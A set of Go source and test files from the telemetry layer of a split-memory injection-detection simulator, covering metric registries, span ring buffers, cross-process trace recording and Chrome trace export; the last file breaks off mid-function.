	h.Observe(50)
	h.Observe(500)
	r.CounterVec("splitmem_page_loads_total", "", "page").Add("0x08048000", 3)

	var buf bytes.Buffer
	if err := r.WritePrometheus(&buf); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	for _, want := range []string{
		"# TYPE splitmem_detections_total counter",
		"splitmem_detections_total 2",
		"splitmem_pages 7",
		"splitmem_sampled 1.5",
		"# TYPE splitmem_lat_cycles histogram",
		`splitmem_lat_cycles_bucket{le="10"} 1`,
		`splitmem_lat_cycles_bucket{le="100"} 2`,
		`splitmem_lat_cycles_bucket{le="+Inf"} 3`,
		"splitmem_lat_cycles_sum 555",
		"splitmem_lat_cycles_count 3",
		`splitmem_page_loads_total{page="0x08048000"} 3`,
	} {
		if !strings.Contains(out, want) {
			t.Fatalf("missing %q in:\n%s", want, out)
		}
	}
}

func TestWriteMetricsJSONL(t *testing.T) {
	r := NewRegistry()
	r.Counter("c", "").Add(1)
	h := r.Histogram("h", "", []uint64{10})
	h.Observe(3)
	r.CounterVec("v", "", "pid").Add("1", 4)

	var buf bytes.Buffer
	if err := r.WriteMetricsJSONL(&buf); err != nil {
		t.Fatal(err)
	}
	sc := bufio.NewScanner(&buf)
	n := 0
	for sc.Scan() {
		var m map[string]any
		if err := json.Unmarshal(sc.Bytes(), &m); err != nil {
			t.Fatalf("line %d: %v", n, err)
		}
		if m["name"] == "h" {
			if m["count"].(float64) != 1 || m["sum"].(float64) != 3 {
				t.Fatalf("histogram line: %v", m)
			}
			if len(m["buckets"].([]any)) != 2 {
				t.Fatalf("buckets: %v", m["buckets"])
			}
		}
		n++
	}
	if n != 3 {
		t.Fatalf("lines=%d", n)
	}
}

func TestWriteSpansJSONL(t *testing.T) {
	b := NewSpanBuffer(16)
	id := b.Begin("dtlb-load", 2, 0x08048, 1000)
	b.End(id, 1200)
	var buf bytes.Buffer
	if err := b.WriteSpansJSONL(&buf); err != nil {
		t.Fatal(err)
	}
	var s map[string]any
	if err := json.Unmarshal(buf.Bytes(), &s); err != nil {
		t.Fatal(err)
	}
	if s["name"] != "dtlb-load" || s["dur"].(float64) != 200 || s["vpn"] != "0x08048000" {
		t.Fatalf("span json: %v", s)
	}
}

func TestWriteTraceEvents(t *testing.T) {
	b := NewSpanBuffer(32)
	id := b.Begin("itlb-load", 1, 0x08048, 100)
	b.End(id, 180)
	id2 := b.Begin("dtlb-load", 1, 0x08049, 200)
	b.End(id2, 230)
	b.Instant("injection-detected", 1, 0x08049, 240)

	var buf bytes.Buffer
	if err := b.WriteTraceEvents(&buf, map[int]string{1: "victim"}); err != nil {
		t.Fatal(err)
	}
	var tf struct {
		TraceEvents []struct {
			Name  string         `json:"name"`
			Phase string         `json:"ph"`
			TS    uint64         `json:"ts"`
			Dur   uint64         `json:"dur"`
			PID   int            `json:"pid"`
			TID   uint32         `json:"tid"`
			Args  map[string]any `json:"args"`
		} `json:"traceEvents"`
		DisplayTimeUnit string `json:"displayTimeUnit"`
	}
	if err := json.Unmarshal(buf.Bytes(), &tf); err != nil {
		t.Fatalf("trace JSON does not parse: %v", err)
	}
	var haveProcMeta, haveITLB, haveDTLB, haveInstant bool
	for _, ev := range tf.TraceEvents {
		switch {
		case ev.Phase == "M" && ev.Name == "process_name":
			if ev.Args["name"] == "victim" {
				haveProcMeta = true
			}
		case ev.Phase == "X" && ev.Name == "itlb-load":
			haveITLB = ev.Dur == 80 && ev.TID == 0x08048
		case ev.Phase == "X" && ev.Name == "dtlb-load":
			haveDTLB = ev.Dur == 30
		case ev.Phase == "i" && ev.Name == "injection-detected":
			haveInstant = true
		}
	}
	if !haveProcMeta || !haveITLB || !haveDTLB || !haveInstant {
		t.Fatalf("meta=%v itlb=%v dtlb=%v instant=%v\n%s",
			haveProcMeta, haveITLB, haveDTLB, haveInstant, buf.String())
	}
}
