// Package hostspan is the wall-clock sibling of internal/telemetry's
// simulated-cycle span ring: a goroutine-safe bounded recorder of
// host-side lifecycle episodes across the serve/cluster tier. Where the
// telemetry SpanBuffer answers "where do a machine's simulated cycles
// go?", a hostspan Recorder answers "where does a job's wall-clock
// latency go?" — admission, queueing, run slices, checkpoint writes,
// checkpoint export, migration hops, resume, stream stitching.
//
// Every span carries a trace ID. The gateway mints one per client
// submission and propagates it to replicas in the X-Splitmem-Trace
// header, so the spans a migrated job leaves on the gateway and on every
// replica it visited can be reassembled into one causal timeline
// (WriteTraceEvents in export.go renders it as a single Chrome
// trace_event file).
//
// All methods are nil-safe: a nil *Recorder records nothing, which is
// how tracing is disabled without touching call sites.
package hostspan

import (
	"crypto/rand"
	"encoding/hex"
	"fmt"
	"runtime"
	"runtime/debug"
	"sync"
	"time"
)

// TraceHeader is the HTTP header that carries a job's trace ID between
// the gateway and its replicas (and back to the client on the response).
const TraceHeader = "X-Splitmem-Trace"

// NewTraceID mints a fresh 16-hex-digit trace identifier.
func NewTraceID() string {
	var b [8]byte
	if _, err := rand.Read(b[:]); err != nil {
		return fmt.Sprintf("t%x", time.Now().UnixNano())
	}
	return hex.EncodeToString(b[:])
}

// Build reports the binary's build identity — module version and Go
// toolchain — for /healthz bodies and flight-recorder dumps.
func Build() map[string]string {
	version := "devel"
	if bi, ok := debug.ReadBuildInfo(); ok && bi.Main.Version != "" {
		version = bi.Main.Version
	}
	return map[string]string{"version": version, "go": runtime.Version()}
}

// Span is one wall-clock episode of host activity.
type Span struct {
	Trace   string            `json:"trace,omitempty"` // "" for process-level spans (probe transitions)
	Seq     uint64            `json:"seq"`
	Parent  uint64            `json:"parent,omitempty"`
	Name    string            `json:"name"` // "gw.relay", "rep.run-slice", ...
	Proc    string            `json:"proc"` // recording process ("gateway:<id>", "replica:<id>")
	Start   time.Time         `json:"start"`
	End     time.Time         `json:"end,omitempty"` // zero while open (or if evicted before End)
	Attrs   map[string]string `json:"attrs,omitempty"`
	Instant bool              `json:"instant,omitempty"`
}

// Dur returns the span's wall duration (0 for instants and unfinished
// spans).
func (s Span) Dur() time.Duration {
	if s.Instant || s.End.IsZero() || s.End.Before(s.Start) {
		return 0
	}
	return s.End.Sub(s.Start)
}

// SpanID refers to an in-flight span handed out by Begin. The zero value
// is invalid and safely ignored by End and Annotate.
type SpanID struct {
	slot int32
	seq  uint64
}

// Valid reports whether the id refers to a live Begin.
func (id SpanID) Valid() bool { return id.seq != 0 }

// Recorder is a bounded, mutex-guarded ring of host spans. Once full,
// new spans overwrite the oldest; an evicted span's End quietly no-ops.
type Recorder struct {
	proc string

	mu       sync.Mutex
	buf      []Span
	pos      int
	full     bool
	nextSeq  uint64
	dropped  uint64
	recorded uint64
}

// DefaultCap is the span-ring capacity when the caller passes 0.
const DefaultCap = 4096

// NewRecorder creates a recorder for the named process holding up to
// capacity spans (0 selects DefaultCap; minimum 64).
func NewRecorder(proc string, capacity int) *Recorder {
	if capacity <= 0 {
		capacity = DefaultCap
	}
	if capacity < 64 {
		capacity = 64
	}
	return &Recorder{proc: proc, buf: make([]Span, capacity)}
}

// Proc returns the recorder's process identity ("" for nil).
func (r *Recorder) Proc() string {
	if r == nil {
		return ""
	}
	return r.proc
}

// attrMap folds variadic key/value pairs into a map (nil when empty).
func attrMap(attrs []string) map[string]string {
	if len(attrs) == 0 {
		return nil
	}
	m := make(map[string]string, len(attrs)/2)
	for i := 0; i+1 < len(attrs); i += 2 {
		m[attrs[i]] = attrs[i+1]
	}
	return m
}

// push appends a span to the ring. Caller holds r.mu.
func (r *Recorder) push(s Span) int {
	slot := r.pos
	if r.full {
		r.dropped++
	}
	r.buf[slot] = s
	r.recorded++
	r.pos++
	if r.pos == len(r.buf) {
		r.pos = 0
		r.full = true
	}
	return slot
}

// Begin opens a span under the given trace at time.Now. attrs are
// alternating key/value pairs. Nil-safe.
func (r *Recorder) Begin(trace, name string, attrs ...string) SpanID {
	return r.BeginChild(trace, name, SpanID{}, attrs...)
}

// BeginChild opens a span parented under another span from the same
// recorder. An invalid parent produces a root span.
func (r *Recorder) BeginChild(trace, name string, parent SpanID, attrs ...string) SpanID {
	if r == nil {
		return SpanID{}
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	r.nextSeq++
	seq := r.nextSeq
	slot := r.push(Span{
		Trace:  trace,
		Seq:    seq,
		Parent: parent.seq,
		Name:   name,
		Proc:   r.proc,
		Start:  time.Now(),
		Attrs:  attrMap(attrs),
	})
	return SpanID{slot: int32(slot), seq: seq}
}

// End finishes the span at time.Now, merging any extra attrs, and
// returns its wall duration. If the span was evicted from the ring — or
// the id is invalid — End does nothing and returns 0.
func (r *Recorder) End(id SpanID, attrs ...string) time.Duration {
	if r == nil || !id.Valid() {
		return 0
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	s := &r.buf[id.slot]
	if s.Seq != id.seq {
		return 0 // evicted and overwritten
	}
	s.End = time.Now()
	for i := 0; i+1 < len(attrs); i += 2 {
		if s.Attrs == nil {
			s.Attrs = map[string]string{}
		}
		s.Attrs[attrs[i]] = attrs[i+1]
	}
	return s.End.Sub(s.Start)
}

// Annotate adds one attribute to an in-flight span (no-op if evicted).
func (r *Recorder) Annotate(id SpanID, key, value string) {
	if r == nil || !id.Valid() {
		return
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	s := &r.buf[id.slot]
	if s.Seq != id.seq {
		return
	}
	if s.Attrs == nil {
		s.Attrs = map[string]string{}
	}
	s.Attrs[key] = value
}

// Instant records a zero-duration marker span. Nil-safe.
func (r *Recorder) Instant(trace, name string, attrs ...string) {
	if r == nil {
		return
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	r.nextSeq++
	now := time.Now()
	r.push(Span{
		Trace:   trace,
		Seq:     r.nextSeq,
		Name:    name,
		Proc:    r.proc,
		Start:   now,
		End:     now,
		Attrs:   attrMap(attrs),
		Instant: true,
	})
}

// snapshotLocked copies the ring oldest-first. Caller holds r.mu.
func (r *Recorder) snapshotLocked() []Span {
	if !r.full {
		out := make([]Span, r.pos)
		copy(out, r.buf[:r.pos])
		return out
	}
	out := make([]Span, 0, len(r.buf))
	out = append(out, r.buf[r.pos:]...)
	out = append(out, r.buf[:r.pos]...)
	return out
}

// Spans returns a copy of the recorded spans, oldest first. Nil-safe.
func (r *Recorder) Spans() []Span {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.snapshotLocked()
}

// SpansFor returns the recorded spans belonging to one trace, oldest
// first. Nil-safe; an empty trace matches nothing.
func (r *Recorder) SpansFor(trace string) []Span {
	if r == nil || trace == "" {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	var out []Span
	for _, s := range r.snapshotLocked() {
		if s.Trace == trace {
			out = append(out, s)
		}
	}
	return out
}

// Tail returns up to the n most recent spans, oldest first.
func (r *Recorder) Tail(n int) []Span {
	all := r.Spans()
	if n > 0 && len(all) > n {
		all = all[len(all)-n:]
	}
	return all
}

// Len returns the number of spans currently held in the ring.
func (r *Recorder) Len() int {
	if r == nil {
		return 0
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	if r.full {
		return len(r.buf)
	}
	return r.pos
}

// Recorded returns the total spans ever recorded (including evicted).
func (r *Recorder) Recorded() uint64 {
	if r == nil {
		return 0
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.recorded
}

// Dropped returns the number of spans evicted by the ring.
func (r *Recorder) Dropped() uint64 {
	if r == nil {
		return 0
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.dropped
}
