package hostspan

import (
	"encoding/json"
	"io"
	"sort"
	"time"
)

// TraceDoc is the JSON wire form of one trace's spans as served by the
// /v1/traces/{id} endpoints: the replica endpoint returns its own spans,
// the gateway endpoint returns the merged set from every process the
// trace touched.
type TraceDoc struct {
	Trace string   `json:"trace"`
	Procs []string `json:"procs,omitempty"` // distinct recording processes, first-seen order
	Spans []Span   `json:"spans"`
}

// NewTraceDoc assembles a TraceDoc from (possibly multi-process) spans,
// sorted by start time so the document reads causally.
func NewTraceDoc(trace string, spans []Span) *TraceDoc {
	SortByStart(spans)
	doc := &TraceDoc{Trace: trace, Spans: spans}
	seen := map[string]bool{}
	for _, s := range spans {
		if !seen[s.Proc] {
			seen[s.Proc] = true
			doc.Procs = append(doc.Procs, s.Proc)
		}
	}
	if doc.Spans == nil {
		doc.Spans = []Span{}
	}
	return doc
}

// WriteJSON renders the trace document.
func (d *TraceDoc) WriteJSON(w io.Writer) error {
	enc := json.NewEncoder(w)
	return enc.Encode(d)
}

// SortByStart orders spans by start time (ties broken by process then
// sequence) — the causal order, given that all recording processes share
// one host clock (true for the in-process harness and single-host
// clusters; multi-host deployments inherit their clock skew).
func SortByStart(spans []Span) {
	sort.SliceStable(spans, func(i, j int) bool {
		if !spans[i].Start.Equal(spans[j].Start) {
			return spans[i].Start.Before(spans[j].Start)
		}
		if spans[i].Proc != spans[j].Proc {
			return spans[i].Proc < spans[j].Proc
		}
		return spans[i].Seq < spans[j].Seq
	})
}

// traceEvent is one Chrome trace_event record ("X" = complete slice,
// "i" = instant, "M" = metadata). Mirrors the simulated-cycle exporter
// in internal/telemetry, but timestamps are real microseconds.
type traceEvent struct {
	Name  string         `json:"name"`
	Phase string         `json:"ph"`
	TS    int64          `json:"ts"` // microseconds since the earliest span
	Dur   int64          `json:"dur,omitempty"`
	PID   int            `json:"pid"`
	TID   int            `json:"tid"`
	Cat   string         `json:"cat,omitempty"`
	Scope string         `json:"s,omitempty"`
	Args  map[string]any `json:"args,omitempty"`
}

type traceFile struct {
	TraceEvents     []traceEvent      `json:"traceEvents"`
	DisplayTimeUnit string            `json:"displayTimeUnit"`
	OtherData       map[string]string `json:"otherData,omitempty"`
}

// WriteTraceEvents renders spans — typically one trace's merged spans
// from the gateway and every replica it visited — as a single Chrome
// trace_event timeline loadable in Perfetto or chrome://tracing. Each
// recording process becomes a trace "process" and each trace ID a
// "thread" within it, so a live-migrated job renders as one causal track
// hopping across process lanes. Timestamps are wall-clock microseconds
// relative to the earliest span.
func WriteTraceEvents(w io.Writer, spans []Span) error {
	spans = append([]Span(nil), spans...)
	SortByStart(spans)

	var epoch time.Time
	if len(spans) > 0 {
		epoch = spans[0].Start
	}
	us := func(t time.Time) int64 {
		if t.IsZero() {
			return 0
		}
		return t.Sub(epoch).Microseconds()
	}

	tf := traceFile{
		DisplayTimeUnit: "ms",
		TraceEvents:     make([]traceEvent, 0, len(spans)+8),
		OtherData: map[string]string{
			"clock": "host wall clock (us since earliest span)",
		},
	}

	// Stable process and trace lanes: pid per recording process, tid per
	// trace ID, both in first-seen (already start-sorted) order.
	pids := map[string]int{}
	tids := map[string]int{}
	type lane struct{ pid, tid int }
	named := map[lane]bool{}
	for _, s := range spans {
		pid, ok := pids[s.Proc]
		if !ok {
			pid = len(pids) + 1
			pids[s.Proc] = pid
			tf.TraceEvents = append(tf.TraceEvents, traceEvent{
				Name: "process_name", Phase: "M", PID: pid,
				Args: map[string]any{"name": s.Proc},
			})
		}
		tid, ok := tids[s.Trace]
		if !ok {
			tid = len(tids) + 1
			tids[s.Trace] = tid
		}
		if ln := (lane{pid, tid}); !named[ln] {
			named[ln] = true
			tname := "trace " + s.Trace
			if s.Trace == "" {
				tname = "process events"
			}
			tf.TraceEvents = append(tf.TraceEvents, traceEvent{
				Name: "thread_name", Phase: "M", PID: pid, TID: tid,
				Args: map[string]any{"name": tname},
			})
		}
	}

	for _, s := range spans {
		ev := traceEvent{
			Name: s.Name,
			TS:   us(s.Start),
			PID:  pids[s.Proc],
			TID:  tids[s.Trace],
			Cat:  "hostspan",
			Args: map[string]any{"seq": s.Seq, "proc": s.Proc},
		}
		if s.Trace != "" {
			ev.Args["trace"] = s.Trace
		}
		if s.Parent != 0 {
			ev.Args["parent"] = s.Parent
		}
		for k, v := range s.Attrs {
			ev.Args[k] = v
		}
		if s.Instant {
			ev.Phase = "i"
			ev.Scope = "t"
		} else {
			ev.Phase = "X"
			ev.Dur = s.Dur().Microseconds()
			if s.End.IsZero() {
				ev.Args["unfinished"] = true
			}
		}
		tf.TraceEvents = append(tf.TraceEvents, ev)
	}

	return json.NewEncoder(w).Encode(tf)
}
