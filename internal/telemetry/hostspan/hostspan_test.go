package hostspan

import (
	"bytes"
	"encoding/json"
	"strings"
	"sync"
	"testing"
	"time"
)

func TestHostspanBeginEnd(t *testing.T) {
	r := NewRecorder("gateway:test", 0)
	id := r.Begin("tr1", "gw.relay", "replica", "r0")
	if !id.Valid() {
		t.Fatal("Begin returned invalid id")
	}
	time.Sleep(time.Millisecond)
	if d := r.End(id, "outcome", "done"); d <= 0 {
		t.Fatalf("End duration = %v, want > 0", d)
	}
	spans := r.SpansFor("tr1")
	if len(spans) != 1 {
		t.Fatalf("SpansFor = %d spans, want 1", len(spans))
	}
	s := spans[0]
	if s.Name != "gw.relay" || s.Proc != "gateway:test" || s.Trace != "tr1" {
		t.Fatalf("bad span %+v", s)
	}
	if s.Attrs["replica"] != "r0" || s.Attrs["outcome"] != "done" {
		t.Fatalf("attrs not merged: %v", s.Attrs)
	}
	if s.Dur() <= 0 {
		t.Fatalf("Dur = %v, want > 0", s.Dur())
	}
}

func TestHostspanRingEviction(t *testing.T) {
	r := NewRecorder("p", 64)
	open := r.Begin("t", "will-be-evicted")
	for i := 0; i < 200; i++ {
		r.Instant("t", "filler")
	}
	if r.Len() != 64 {
		t.Fatalf("Len = %d, want 64", r.Len())
	}
	if r.Dropped() == 0 {
		t.Fatal("Dropped = 0 after overfilling")
	}
	if r.Recorded() != 201 {
		t.Fatalf("Recorded = %d, want 201", r.Recorded())
	}
	// Ending an evicted span must be a harmless no-op.
	if d := r.End(open); d != 0 {
		t.Fatalf("End of evicted span returned %v", d)
	}
	r.Annotate(open, "k", "v")
}

func TestHostspanNilSafety(t *testing.T) {
	var r *Recorder
	id := r.Begin("t", "x")
	if id.Valid() {
		t.Fatal("nil recorder handed out a valid id")
	}
	r.End(id)
	r.Instant("t", "x")
	r.Annotate(id, "k", "v")
	if r.Spans() != nil || r.SpansFor("t") != nil || r.Len() != 0 ||
		r.Recorded() != 0 || r.Dropped() != 0 || r.Proc() != "" {
		t.Fatal("nil recorder leaked state")
	}
}

func TestHostspanConcurrent(t *testing.T) {
	r := NewRecorder("p", 256)
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 100; i++ {
				id := r.Begin("t", "work")
				r.Annotate(id, "i", "x")
				r.End(id)
				r.Instant("t", "mark")
			}
		}()
	}
	wg.Wait()
	if r.Recorded() != 8*100*2 {
		t.Fatalf("Recorded = %d, want %d", r.Recorded(), 8*100*2)
	}
}

func TestHostspanTraceIDUnique(t *testing.T) {
	a, b := NewTraceID(), NewTraceID()
	if a == b || len(a) == 0 {
		t.Fatalf("trace ids not unique: %q %q", a, b)
	}
}

func TestHostspanBuild(t *testing.T) {
	b := Build()
	if b["go"] == "" || b["version"] == "" {
		t.Fatalf("Build() missing fields: %v", b)
	}
}

func TestHostspanChromeExportMergesProcesses(t *testing.T) {
	gw := NewRecorder("gateway:g1", 0)
	r0 := NewRecorder("replica:a", 0)
	r1 := NewRecorder("replica:b", 0)

	id := gw.Begin("tr", "gw.job")
	r0.Instant("tr", "rep.admit")
	r1.Instant("tr", "rep.admit")
	gw.End(id)

	var all []Span
	all = append(all, gw.SpansFor("tr")...)
	all = append(all, r0.SpansFor("tr")...)
	all = append(all, r1.SpansFor("tr")...)

	var buf bytes.Buffer
	if err := WriteTraceEvents(&buf, all); err != nil {
		t.Fatal(err)
	}
	var tf struct {
		TraceEvents []struct {
			Name  string         `json:"name"`
			Phase string         `json:"ph"`
			PID   int            `json:"pid"`
			Args  map[string]any `json:"args"`
		} `json:"traceEvents"`
	}
	if err := json.Unmarshal(buf.Bytes(), &tf); err != nil {
		t.Fatalf("chrome trace does not decode: %v", err)
	}
	procs := map[string]bool{}
	for _, ev := range tf.TraceEvents {
		if ev.Phase == "M" && ev.Name == "process_name" {
			procs[ev.Args["name"].(string)] = true
		}
	}
	for _, want := range []string{"gateway:g1", "replica:a", "replica:b"} {
		if !procs[want] {
			t.Fatalf("merged trace missing process %q (have %v)", want, procs)
		}
	}
}

func TestHostspanTraceDoc(t *testing.T) {
	r := NewRecorder("p1", 0)
	r.Instant("tr", "b")
	doc := NewTraceDoc("tr", r.SpansFor("tr"))
	var buf bytes.Buffer
	if err := doc.WriteJSON(&buf); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), `"trace":"tr"`) {
		t.Fatalf("doc missing trace id: %s", buf.String())
	}
	if len(doc.Procs) != 1 || doc.Procs[0] != "p1" {
		t.Fatalf("procs = %v", doc.Procs)
	}
}
