package telemetry

import (
	"sync"
	"testing"
)

func TestRegistryMergeKinds(t *testing.T) {
	src := NewRegistry()
	src.Counter("c", "h").Add(5)
	src.Gauge("g", "h").Set(2.5)
	src.GaugeFunc("gf", "h", func() float64 { return 7 })
	src.Histogram("hist", "h", []uint64{10, 100}).Observe(3)
	src.Histogram("hist", "h", nil).Observe(250)
	src.CounterVec("vec", "h", "page").Add("p1", 2)
	src.CounterVec("vec", "h", "page").Add("p2", 3)

	dst := NewRegistry()
	dst.Counter("c", "h").Add(1)
	dst.Merge(src)
	dst.Merge(src) // merging twice doubles the contribution

	if got := dst.LookupCounter("c").Value(); got != 11 {
		t.Fatalf("counter = %d want 11", got)
	}
	// Gauges (incl. sampled source gauges) add up.
	if e, ok := dst.byName["g"]; !ok || e.gauge.Value() != 5 {
		t.Fatalf("gauge merge failed: %+v", e)
	}
	if e, ok := dst.byName["gf"]; !ok || e.kind != kindGauge || e.gauge.Value() != 14 {
		t.Fatalf("gaugefunc must land as a plain gauge sum: %+v", e)
	}
	h := dst.LookupHistogram("hist")
	if h.Count() != 4 || h.Sum() != 2*(3+250) {
		t.Fatalf("hist count=%d sum=%d", h.Count(), h.Sum())
	}
	if h.Min() != 3 || h.Max() != 250 {
		t.Fatalf("hist min=%d max=%d", h.Min(), h.Max())
	}
	bounds, counts := h.Buckets()
	if len(bounds) != 2 || counts[0] != 2 || counts[2] != 2 {
		t.Fatalf("buckets %v %v", bounds, counts)
	}
	vec := dst.LookupCounterVec("vec")
	if vec.Value("p1") != 4 || vec.Value("p2") != 6 {
		t.Fatalf("vec: %v", vec.Items())
	}
}

func TestHistogramMergeDifferingBounds(t *testing.T) {
	a := newHistogram("a", "", []uint64{10, 100})
	b := newHistogram("b", "", []uint64{50})
	b.Observe(40)  // bucket <=50, re-observed at 50 -> a's <=100 bucket
	b.Observe(999) // +Inf tail -> a's +Inf bucket
	a.Merge(b)
	if a.Count() != 2 || a.Sum() != 40+999 {
		t.Fatalf("count=%d sum=%d", a.Count(), a.Sum())
	}
	_, counts := a.Buckets()
	if counts[1] != 1 || counts[2] != 1 {
		t.Fatalf("counts=%v", counts)
	}
}

func TestMergeNilSafety(t *testing.T) {
	var h *Hub
	h.Merge(nil) // must not panic
	var r *Registry
	r.Merge(NewRegistry())
	NewRegistry().Merge(nil)
	var hist *Histogram
	hist.Merge(newHistogram("x", "", nil))
	live := NewRegistry()
	live.Merge(live) // self-merge is a no-op, not a deadlock or doubling
}

// TestConcurrentMerge is the regression test for the fleet's merge race:
// many goroutines folding distinct source registries into one destination
// must serialize correctly (run under -race in CI).
func TestConcurrentMerge(t *testing.T) {
	dst := NewRegistry()
	const workers = 8
	const merges = 50
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < merges; i++ {
				src := NewRegistry()
				src.Counter("total", "h").Add(1)
				src.Histogram("lat", "h", nil).Observe(uint64(w*merges + i))
				src.CounterVec("byworker", "h", "w").Add(string(rune('a'+w)), 1)
				dst.Merge(src)
			}
		}(w)
	}
	wg.Wait()
	if got := dst.LookupCounter("total").Value(); got != workers*merges {
		t.Fatalf("total=%d want %d", got, workers*merges)
	}
	if got := dst.LookupHistogram("lat").Count(); got != workers*merges {
		t.Fatalf("lat count=%d", got)
	}
	var sum uint64
	for _, it := range dst.LookupCounterVec("byworker").Items() {
		sum += it.Count
	}
	if sum != workers*merges {
		t.Fatalf("vec sum=%d", sum)
	}
}
