package telemetry

// Merging: the fleet runner gives every machine its own Hub (the simulator
// stays single-threaded per machine, so the hot instrument paths remain
// lock-free) and folds finished machines into one aggregate Hub. Only the
// merge path takes a lock, so concurrent workers may merge into the same
// destination; everything else in the package keeps its single-threaded
// contract.

// Merge folds every value of o into h: bucket-wise when the bucket
// boundaries match, and always the scalar summary (count, sum, extremes).
// No-op when either histogram is nil or o is empty.
func (h *Histogram) Merge(o *Histogram) {
	if h == nil || o == nil || o.n == 0 {
		return
	}
	if h.n == 0 || o.min < h.min {
		h.min = o.min
	}
	if o.max > h.max {
		h.max = o.max
	}
	h.sum += o.sum
	h.n += o.n
	if len(h.bounds) == len(o.bounds) {
		same := true
		for i, b := range h.bounds {
			if o.bounds[i] != b {
				same = false
				break
			}
		}
		if same {
			for i, c := range o.counts {
				h.counts[i] += c
			}
			return
		}
	}
	// Differing bucket layouts: re-observe each bucket at its upper bound
	// (the +Inf tail lands in h's own +Inf bucket). The scalar summary above
	// is already exact; only the shape is approximated.
	for i, c := range o.counts {
		if c == 0 {
			continue
		}
		var v uint64
		if i < len(o.bounds) {
			v = o.bounds[i]
		} else {
			v = ^uint64(0)
		}
		j := len(h.counts) - 1
		for k, b := range h.bounds {
			if v <= b {
				j = k
				break
			}
		}
		h.counts[j] += c
	}
}

// Merge folds every metric of src into r, creating destination metrics on
// first sight:
//
//   - counters and counter vectors add;
//   - gauges add (an aggregate gauge is a sum over machines);
//   - sampled gauges (GaugeFunc) are read once and added into a plain gauge
//     of the same name, detaching the aggregate from the source machine's
//     lifetime;
//   - histograms merge bucket-wise (see Histogram.Merge).
//
// Merge is the one goroutine-safe entry point of the registry: concurrent
// Merge calls into the same destination serialize on an internal lock, so
// fleet workers can fold machines in as they finish. The source registry
// must be quiescent (its machine stopped). Reading the destination while
// merges are in flight is still the caller's problem — export after the
// fleet drains.
func (r *Registry) Merge(src *Registry) {
	if r == nil || src == nil || r == src {
		return
	}
	r.mergeMu.Lock()
	defer r.mergeMu.Unlock()
	for _, e := range src.entries {
		switch e.kind {
		case kindCounter:
			r.Counter(e.name, e.help).Add(e.counter.Value())
		case kindGauge:
			r.Gauge(e.name, e.help).Add(e.gauge.Value())
		case kindGaugeFunc:
			r.Gauge(e.name, e.help).Add(e.fn())
		case kindHistogram:
			r.Histogram(e.name, e.help, e.hist.bounds).Merge(e.hist)
		case kindCounterVec:
			dst := r.CounterVec(e.name, e.help, e.vec.label)
			for _, it := range e.vec.Items() {
				dst.Add(it.Label, it.Count)
			}
		}
	}
}

// Merge folds the metrics of src's registry into h's (see Registry.Merge).
// Spans are not merged: a span buffer is a per-machine timeline, and
// interleaving unrelated machines would only destroy it. Nil-safe on both
// sides.
func (h *Hub) Merge(src *Hub) {
	if h == nil || src == nil {
		return
	}
	h.Registry().Merge(src.Registry())
}
