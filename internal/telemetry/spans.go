package telemetry

// A Span is one timed episode of engine activity — a split-memory
// fault-handling lifecycle (fault → PTE repoint → TLB fill → re-restrict,
// or fault → TF set → retry → #DB → re-restrict), a scheduler slice, or a
// zero-duration instant (an injection detection, a process exit). Times
// are simulated cycles.
type Span struct {
	Seq     uint64 // unique, ascending span id (1-based)
	Parent  uint64 // Seq of the parent span, 0 for roots
	Name    string // "itlb-load", "dtlb-load", "tf-single-step", ...
	PID     int    // owning guest process
	VPN     uint32 // owning virtual page number (0 when not page-scoped)
	Start   uint64 // cycle count at the start of the episode
	End     uint64 // cycle count at the end (== Start for instants)
	Instant bool   // zero-duration marker event
}

// Dur returns the span's duration in simulated cycles (0 for instants and
// for spans that were never finished).
func (s Span) Dur() uint64 {
	if s.End <= s.Start {
		return 0
	}
	return s.End - s.Start
}

// SpanID refers to an in-flight span handed out by Begin. The zero value
// is invalid and safely ignored by End.
type SpanID struct {
	slot int32
	seq  uint64
}

// Valid reports whether the id refers to a live Begin.
func (id SpanID) Valid() bool { return id.seq != 0 }

// SpanBuffer is a bounded ring of spans. Once full, new spans overwrite
// the oldest — including unfinished ones, whose End then quietly no-ops.
// Not goroutine-safe (the simulator is single-threaded).
type SpanBuffer struct {
	buf     []Span
	pos     int
	full    bool
	nextSeq uint64
	dropped uint64 // spans overwritten before or after completion
}

// NewSpanBuffer creates a ring holding up to n spans (minimum 16).
func NewSpanBuffer(n int) *SpanBuffer {
	if n < 16 {
		n = 16
	}
	return &SpanBuffer{buf: make([]Span, n)}
}

// Cap returns the ring capacity.
func (b *SpanBuffer) Cap() int {
	if b == nil {
		return 0
	}
	return len(b.buf)
}

// Len returns the number of recorded spans (up to Cap).
func (b *SpanBuffer) Len() int {
	if b == nil {
		return 0
	}
	if b.full {
		return len(b.buf)
	}
	return b.pos
}

// Dropped returns the number of spans evicted by the ring.
func (b *SpanBuffer) Dropped() uint64 {
	if b == nil {
		return 0
	}
	return b.dropped
}

// push appends a span to the ring and returns its slot.
func (b *SpanBuffer) push(s Span) int {
	slot := b.pos
	if b.full {
		b.dropped++
	}
	b.buf[slot] = s
	b.pos++
	if b.pos == len(b.buf) {
		b.pos = 0
		b.full = true
	}
	return slot
}

// Begin opens a root span at the given cycle count and returns its id.
// Nil-safe: a nil buffer returns the invalid zero SpanID.
func (b *SpanBuffer) Begin(name string, pid int, vpn uint32, start uint64) SpanID {
	return b.BeginChild(name, pid, vpn, start, SpanID{})
}

// BeginChild opens a span parented under another in-flight or finished
// span. An invalid parent id produces a root span.
func (b *SpanBuffer) BeginChild(name string, pid int, vpn uint32, start uint64, parent SpanID) SpanID {
	if b == nil {
		return SpanID{}
	}
	b.nextSeq++
	seq := b.nextSeq
	slot := b.push(Span{
